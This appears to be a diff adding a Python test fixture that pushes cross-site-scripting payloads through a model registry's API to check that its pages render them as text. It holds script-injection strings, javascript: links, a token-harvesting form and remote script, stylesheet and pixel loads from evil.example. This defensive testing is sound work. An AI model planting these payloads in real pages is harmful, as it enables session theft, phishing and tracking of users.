@@ -1,0 +1,119 @@
+"""Content that must stay text: pushed through the real interface into every place that pages show.
+
+`fill` fills a registry; `PATHS` are the pages that show it.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+from typing import Any
+
+from registry.api.access import TokenCreate
+from registry.api.catalog import MetadataChange
+from registry.api.jobs import ClaimRequest, FinishRequest
+from registry.digest import Digest
+from registry.evaluation.reports import Report
+from registry.evaluation.verdicts import Check
+from registry.findings import Finding
+from registry.provenance import Code, Dataset, Provenance, Run
+from tests import forge
+from tests.world import World
+
+MARKUP = (
+    "\"'><script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)></title></textarea></pre>"
+    "<style>*{display:none}</style><base href=//evil.example><iframe src=//evil.example></iframe>{{ 7 * 7 }}${7*7}<!--"
+)
+LONG = "w" * 300
+README = (
+    b"""---
+base_model: "<script>alert(1)</script>"
+datasets: ["<img src=x onerror=alert(1)>"]
+---
+# <script>alert(1)</script> heading
+
+<script src=//evil.example/x.js></script><script>document.body.remove()</script>
+<img src=x onerror=alert(1)><img src=//evil.example/pixel.png>
+<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a><animate onbegin=alert(1) /></svg>
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
+<style>body { display: none } @import url(//evil.example/x.css);</style>
+<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=//evil.example">
+<form action=//evil.example><input name=token><button>Sign in</button></form>
+<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=//evil.example></object><embed src=//evil.example>
+<details open ontoggle=alert(1)><summary style="position:fixed;inset:0">x</summary></details>
+<a href="javascript:alert(1)" target=_top onclick=alert(1) id=main class=site style="position:fixed">link</a>
+<div></div></div></section></main></body></html>
+
+[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) [c](vbscript:x)
+[d](//evil.example) [e](/sign-out)
+[f]: javascript:alert(1)
+[f] <javascript:alert(1)> ![pixel](http://evil.example/pixel.png) [g](https://example.org "\\" onmouseover=alert(1)")
+
+| a | b |
+|---|---|
+| <script>alert(1)</script> | `<img src=x onerror=alert(1)>` |
+
+"""
+    + b"w" * 3000
+)
+REF = "evil/adapter"
+PATHS = (
+    "/", "/search?text=evil", f"/search?text={MARKUP[:90]}", f"/search?base={MARKUP[:60]}&owner={MARKUP[:90]}",
+    f"/adapters/{REF}",
+    f"/adapters/{REF}/versions/1", f"/adapters/{REF}/versions/2", f"/adapters/{REF}/versions/1/lineage",
+    f"/compare?left={REF}@1&right={REF}@2", f"/compare?left={MARKUP[:60]}&right=%00", f"/adapters/{REF}/aliases/prod",
+    f"/adapters/{REF}/aliases/prod?at={MARKUP[:30]}&version=1", "/namespaces/evil", "/bases", "/bases/tiny-llama",
+    "/audit",
+    f"/audit?object={MARKUP[:90]}", "/status", f"/adapters/{MARKUP[:40]}/x", f"/sign-in?next={MARKUP[:90]}",
+    f"/sign-in/{MARKUP[:40]}",
+)  # fmt: skip
+
+
+def fill(world: World) -> None:
+    """An adapter with two versions and everything that a pusher, a promoter, a worker and an owner write."""
+    base = forge.llama()
+    world.add_base(base, source=MARKUP)
+    registry = world.admin
+    registry.create_namespace("evil", owner="evil@evil.example")
+    name = MARKUP[:100].replace("\n", " ")
+    pusher = world.client(registry.create_token(TokenCreate(name=name, scopes=["admin"], namespaces=["*"])).secret)
+    provenance = Provenance(
+        datasets=(Dataset(name=MARKUP[:200], uri="https://evil.example/d", digest=Digest.of(b"d")),),
+        run=Run(tool="mlflow", id="run", url="https://evil.example/run"),
+        code=Code(repository="https://evil.example/code", commit="4" * 40),
+        parameters={"learning_rate": MARKUP, "b": LONG},
+    )
+    golden = json.dumps({"prompt": MARKUP, "expected": f"</td></table>{MARKUP}"}).encode() + b"\n"
+    for number in (1, 2):
+        files = dict(world.files(base)) | {"README.md": README, "golden.jsonl": golden}
+        annotations = {"note": MARKUP[:200]}
+        world.push(REF, files, by=pusher, message=f"{MARKUP}\n{LONG}", provenance=provenance, annotations=annotations)
+        _finish_smoke_test(world, f"{REF}@{number}")
+    change = MetadataChange(
+        description=MARKUP,
+        tags={"note": MARKUP[:200]},
+        links={"site": "https://evil.example/?\"'><script>alert(1)</script>"},
+    )
+    registry.describe_adapter(REF, change)
+    registry.describe(f"{REF}@1", change)
+    pusher.promote(REF, "prod", "1", generation=0, reason=MARKUP)
+    pusher.yank(f"{REF}@2", reason=MARKUP)
+    pusher.quarantine(f"{REF}@1", reason=MARKUP + LONG)
+
+
+def _finish_smoke_test(world: World, ref: str) -> None:
+    """A report by a worker whose child process was taken over: it writes what it likes into every text."""
+    version = world.admin.version(ref)
+    claimed = world.admin.claim(ClaimRequest(worker="test"))
+    assert claimed is not None
+    findings = (Finding.of("warning", "smoke.drift", MARKUP, MARKUP), Finding.of("warning", "smoke.drift", LONG, LONG))
+    image = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").decode()
+    values: dict[str, Any] = {
+        "golden": ({"log_p": -1.0, "base_log_p": -2.0, "margin_nats": 0.5},), "images": {"before": image},
+        "made_by": {MARKUP[:100]: MARKUP[:300]}, "measurements": {"largest_difference": 0.25},
+    }  # fmt: skip
+    report = Report(
+        check=Check.SMOKE, subject=version.digest, base=version.base, base_fingerprint=version.base_fingerprint,
+        findings=findings, **values,
+    )  # fmt: skip
+    world.admin.finish(claimed.job.id, FinishRequest(lease_token=claimed.lease.token, report=report))
